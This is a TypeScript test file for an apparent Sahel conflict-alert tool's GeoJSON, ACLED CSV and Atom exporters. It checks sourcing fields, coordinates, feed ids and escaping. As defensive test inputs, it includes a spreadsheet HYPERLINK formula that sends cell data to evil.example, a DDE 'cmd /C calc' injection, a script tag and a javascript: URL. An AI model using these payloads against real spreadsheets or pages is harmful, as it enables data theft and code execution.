import Parser from 'rss-parser';
import { describe, expect, it } from 'vitest';
import { ACLED_COLUMNS, alertsToAcledCsv, alertsToAtom, alertsToGeoJSON, alertsToGeoJSONSeq, atomEntryId } from '../../src/exports/index.js';
import { parseCsv } from '../helpers/csv.js';
import { makeAlert } from './alert-fixtures.js';

const HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"click") <script>alert(1)</script> & "quoted", line\nbreak \u0001';

describe('independent sources and story status in the exports', () => {
  it('GeoJSON, Atom and the ACLED notes carry the sourcing and the status when the alert has them', () => {
    const base = makeAlert();
    const alert = {
      ...base,
      story: {
        ...base.story,
        sourceGroups: [
          { kind: 'agency' as const, origin: 'AFP', outlets: ['RFI', 'France 24'], reports: 2 },
          { kind: 'agency' as const, origin: 'Reuters', outlets: [], reports: 1 },
        ],
        sourcing: '3 reports from 2 independent sources (AFP via RFI and France 24; Reuters)',
        status: 'confirmed' as const,
      },
    };
    expect(alertsToGeoJSON([alert]).features[0]?.properties).toMatchObject({ independent_sources: 2, sourcing: alert.story.sourcing, status: 'confirmed' });
    expect(alertsToGeoJSON([base]).features[0]?.properties).toMatchObject({ independent_sources: null, status: null });
    const atom = alertsToAtom([alert], { selfUrl: 'http://h/feeds/alerts.atom' });
    expect(atom).toContain('Sourcing: 3 reports from 2 independent sources (AFP via RFI and France 24; Reuters)');
    expect(atom).toContain('Status: confirmed');
    const [header, row] = parseCsv(alertsToAcledCsv([alert]));
    expect(row?.[header?.indexOf('notes') ?? -1]).toContain('confirmed; 3 reports from 2 independent sources');
  });
});

describe('GeoJSON export', () => {
  it('writes one RFC 7946 point per alert, longitude first, at the most precise place', () => {
    const fc = alertsToGeoJSON([makeAlert()]);
    expect(fc.type).toBe('FeatureCollection');
    expect(fc).not.toHaveProperty('crs');
    const [feature] = fc.features;
    expect(feature?.geometry).toEqual({ type: 'Point', coordinates: [-11.2123, 14.5456] });
    expect(feature?.properties).toMatchObject({ place_name: 'Diboli', admin1: 'Kayes', country_iso2: 'ML', geo_precision: 1, fatalities: 12, actors: 'JNIM', severity: 'high' });
    for (const value of Object.values(feature!.properties)) expect(typeof value === 'object' && value !== null).toBe(false);
  });

  it('keeps alerts without coordinates with a null geometry, and drops non-web source links', () => {
    const alert = makeAlert({ url: 'javascript:alert(1)' });
    alert.places = [{ id: 'place/ml/unknown', name: 'Somewhere' }];
    const [feature] = alertsToGeoJSON([alert]).features;
    expect(feature?.geometry).toBeNull();
    expect(feature?.properties.url).toBeNull();
  });
});

describe('GeoJSON text sequence export', () => {
  it('writes one RS-prefixed, LF-terminated feature per alert (RFC 8142)', () => {
    const text = alertsToGeoJSONSeq([makeAlert(), makeAlert({ title: 'Second' })]);
    const records = text.split('\u001e').slice(1);
    expect(records).toHaveLength(2);
    for (const record of records) {
      expect(record.endsWith('\n')).toBe(true);
      expect(JSON.parse(record).type).toBe('Feature');
    }
  });
});

describe('ACLED CSV export', () => {
  it("uses ACLED's header and fills what an ACLED user expects", () => {
    const rows = parseCsv(alertsToAcledCsv([makeAlert()]));
    expect(rows[0]).toEqual([...ACLED_COLUMNS]);
    const row = Object.fromEntries(ACLED_COLUMNS.map((c, i) => [c, rows[1]![i]]));
    expect(row.event_id_cnty).toMatch(/^SW-al_[0-9a-f]{24}$/);
    expect(row).toMatchObject({
      event_date: '2026-11-20',
      year: '2026',
      iso: '466',
      country: 'Mali',
      region: 'Western Africa',
      admin1: 'Kayes',
      location: 'Diboli',
      latitude: '14.5456',
      longitude: '-11.2123',
      actor1: "JNIM: Jama'atu Nusrat al-Islam wal-Muslimin",
      event_type: 'Battles',
      fatalities: '12',
      source: 'Sahel Daily',
    });
  });

  it('neutralises formulas and quotes commas, quotes and line breaks (RFC 4180)', () => {
    const alert = makeAlert({ title: HOSTILE_TITLE, outlet: '@SUM(1+1)*cmd|" /C calc"!A0' });
    const csv = alertsToAcledCsv([alert]);
    const rows = parseCsv(csv);
    expect(rows).toHaveLength(2);
    const notes = rows[1]![ACLED_COLUMNS.indexOf('notes')]!;
    const source = rows[1]![ACLED_COLUMNS.indexOf('source')]!;
    expect(notes.startsWith("'=HYPERLINK")).toBe(true);
    expect(notes).toContain('line\nbreak');
    expect(source.startsWith("'@SUM")).toBe(true);
    // Negative coordinates are numbers, not formulas: they keep their sign.
    expect(rows[1]![ACLED_COLUMNS.indexOf('longitude')]).toBe('-11.2123');
    expect(csv.endsWith('\r\n')).toBe(true);
  });

  it('adds a UTF-8 byte-order mark only when asked (for Excel)', () => {
    expect(alertsToAcledCsv([], { bom: true }).startsWith('\uFEFFevent_id_cnty,')).toBe(true);
    expect(alertsToAcledCsv([]).startsWith('event_id_cnty,')).toBe(true);
  });
});

describe('Atom export', () => {
  it('writes stable entry ids, lat-first GeoRSS points and a self link', () => {
    const alert = makeAlert();
    const xml = alertsToAtom([alert], { selfUrl: 'http://127.0.0.1:8080/feeds/alerts.atom' });
    expect(xml).toContain(`<id>${atomEntryId(alert)}</id>`);
    expect(atomEntryId(alert)).toBe(`urn:sahelwatch:alert:${alert.id}`);
    expect(xml).toContain('<georss:point>14.5456 -11.2123</georss:point>');
    expect(xml).toContain('<link rel="self" type="application/atom+xml" href="http://127.0.0.1:8080/feeds/alerts.atom"/>');
    expect(xml).toContain('<category term="kayes-convoy-interdiction"');
    expect(xml).toContain('<updated>2026-11-20T08:00:00.000Z</updated>');
  });

  it('links each entry to the alert in the console when an external URL is known, keeping the source as related', () => {
    const alert = makeAlert();
    const source = alert.story.sources.at(-1)?.url ?? '';
    const plain = alertsToAtom([alert], { selfUrl: 'http://h/feeds/alerts.atom' });
    expect(plain).toContain(`<link rel="alternate" type="text/html" href="${source}"/>`);
    const linked = alertsToAtom([alert], { selfUrl: 'http://h/feeds/alerts.atom', consoleLink: (id) => `https://watch.example.org/#alert=${id}` });
    expect(linked).toContain(`<link rel="alternate" type="text/html" href="https://watch.example.org/#alert=${alert.id}"/>`);
    expect(linked).toContain(`<link rel="related" type="text/html" href="${source}"/>`);
  });

  it('reads back in a real feed parser with the hostile title intact', async () => {
    const alert = makeAlert({ title: HOSTILE_TITLE });
    const feed = await new Parser().parseString(alertsToAtom([alert], { selfUrl: 'http://h/feeds/alerts.atom' }));
    expect(feed.items).toHaveLength(1);
    const [item] = feed.items;
    expect(item?.title).toBe(`[HIGH] ${alert.indicatorTitle}: ${HOSTILE_TITLE.replace('\u0001', '\uFFFD')}`);
    expect(item?.id).toBe(atomEntryId(alert));
    expect(item?.link).toBe('https://news.example.org/mali/diboli-ambush');
  });

  it('escapes markup and strips characters XML cannot carry', () => {
    const alert = makeAlert({ title: HOSTILE_TITLE, url: 'https://example.org/a?x=1&y="2"' });
    const xml = alertsToAtom([alert], { selfUrl: 'http://h/feeds/alerts.atom' });
    expect(xml).not.toContain('<script>');
    expect(xml).toContain('&lt;script&gt;alert(1)&lt;/script&gt; &amp; &quot;quoted&quot;');
    expect(xml).not.toMatch(/[\u0000-\u0008]/);
    expect(xml).toContain('href="https://example.org/a?x=1&amp;y=%222%22"');
    // Every element that opens also closes: a crude well-formedness check without an XML parser.
    const opens = xml.match(/<entry>/g)?.length;
    expect(opens).toBe(xml.match(/<\/entry>/g)?.length);
  });
});
